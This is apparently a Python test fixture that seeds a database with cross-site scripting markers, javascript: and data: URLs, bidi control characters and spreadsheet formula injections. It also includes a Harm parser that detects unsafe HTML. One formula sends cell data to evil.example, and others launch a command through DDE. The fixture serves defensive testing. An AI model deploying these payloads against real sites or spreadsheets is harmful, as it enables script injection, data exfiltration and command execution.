"""A database in which every text that a document or a person can choose is hostile, each in words of its own."""

import asyncio
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from sqlite_utils import Database

from tests.publish import factory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TURNING = "\u202eforward\u202c \x00\x07\x1b[2J"
JSON_LD = "</script><!--<script>alert('ld')</script>"
FIELDS = {
    "documents": ("title", "publisher", "author", "note", "licence"),
    "outlets": ("name", "names"),
    "entities": ("name", "country"),
    "aliases": ("name",),
    "citations": ("publisher", "title", "author", "note"),
    "attributions": ("speaker",),
    "claims": ("speaker",),
    "mentions": ("name",),
    "evidence_facts": ("claim_words", "source_words"),
    "citation_sources": ("reason",),
    "problems": ("path", "message", "place"),
    "decisions": ("note", "verdict"),
    "origins": ("kind", "quote"),
    "mention_links": ("rule",),
}


def marker(table: str, column: str) -> str:
    """What is put into a column: it ends any quotation, script or tag, and would run."""
    return (
        f"{table}.{column}\"'></script></title><script>alert('{table}')</script><img src=x onerror=alert(1)>{TURNING}"
    )


def make(path: Path) -> None:
    """The made-up database with every row spoilt; quotes stay, since they must equal their text, of which one is hostile."""
    db = factory.make(path)
    db.execute("PRAGMA foreign_keys=off")
    for table, columns in FIELDS.items():
        for column in columns:
            value = marker(table, column).replace("/", "") if column == "path" else marker(table, column)
            value = json.dumps({"en": [value]}) if column == "names" else value
            db.execute(f"UPDATE {table} SET {column} = ?", [value])
    db.execute(
        "UPDATE documents SET url = 'javascript:alert(6)//' || id, path = 'x/' || id || '/' || ?",
        [marker("documents", "path").replace("/", "")],
    )
    db.execute("UPDATE citations SET url = 'data:text/html,<script>alert(7)</script>' || id")
    _formulas(db)
    db.conn.commit()
    db.conn.close()


def _formulas(db: Database) -> None:
    """Rows that a spreadsheet would run, in a table that is shown whole."""
    for number, cell in enumerate(
        (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)", "\t=1", "\uff1d1")
    ):
        db["problems"].insert({"id": f"formula-{number}", "path": cell, "document": None, "stage": "read", "reason": "x",
                               "message": cell, "place": "", "severity": "error"})  # fmt: skip


class Harm(HTMLParser):
    """What in a page would run, or lead where it should not; `found` is empty for a page that is safe."""

    _ADDRESSES = frozenset({"href", "src", "action", "formaction", "srcset", "data", "poster", "xlink:href"})
    _READ = frozenset({"title", "alt", "aria-label", "placeholder"})
    _NEVER = frozenset({"iframe", "object", "embed", "base", "applet", "frame", "portal"})

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text: list[str] = []
        self._script = False
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        self._script = tag == "script"
        wrong = tag in self._NEVER or (tag == "script" and not given.get("src") and not given.get("nonce"))
        wrong = (
            wrong
            or (tag == "meta" and given.get("http-equiv", "Content-Security-Policy") != "Content-Security-Policy")
            or (tag == "img" and given.get("src") == "x")
        )
        wrong = wrong or any(name.startswith("on") for name in given)
        wrong = wrong or any(not _leads_well(value or "") for name, value in attrs if name in self._ADDRESSES)
        self.found += [f"{tag} {given}"] if wrong else []
        self.text += [value or "" for name, value in attrs if name in self._READ]

    def handle_data(self, data: str) -> None:
        self.text.append(data)
        if self._script and "alert(" in data:
            self.found.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._script = False


def _leads_well(address: str) -> bool:
    return bool(
        re.match(r"(?:/(?![/\\])|#|\?|https?://(?:[a-z0-9.]+\.example|localhost|datasette\.io)(?:[/?]|$)|$)", address)
    )


def hiding(text: str) -> str:
    """Characters in it that hide or turn others; there should be none."""
    return "".join(
        sorted(set(re.findall(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", text)))
    )


async def raw(app: Any, path: bytes, method: str = "GET", headers: dict[str, str] | None = None) -> tuple[int, bytes]:
    """Ask an ASGI application for exactly these bytes, which no client would send; status and body."""
    from urllib.parse import unquote_to_bytes

    bare, _, query = path.partition(b"?")
    sent = {"host": "localhost"} | (headers or {})
    scope = {
        "type": "http", "method": method, "path": unquote_to_bytes(bare).decode(errors="replace"), "raw_path": bare, "query_string": query,
        "headers": [(k.encode(), v.encode()) for k, v in sent.items()], "client": ("127.0.0.1", 1), "scheme": "http",
        "http_version": "1.1", "server": ("localhost", 80), "root_path": "",
    }  # fmt: skip
    got: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        await asyncio.sleep(0)
        return {"type": "http.request", "body": b"", "more_body": False}

    async def send(message: dict[str, Any]) -> None:
        got.append(message)

    await app(scope, receive, send)
    return got[0]["status"], b"".join(m.get("body", b"") for m in got[1:])
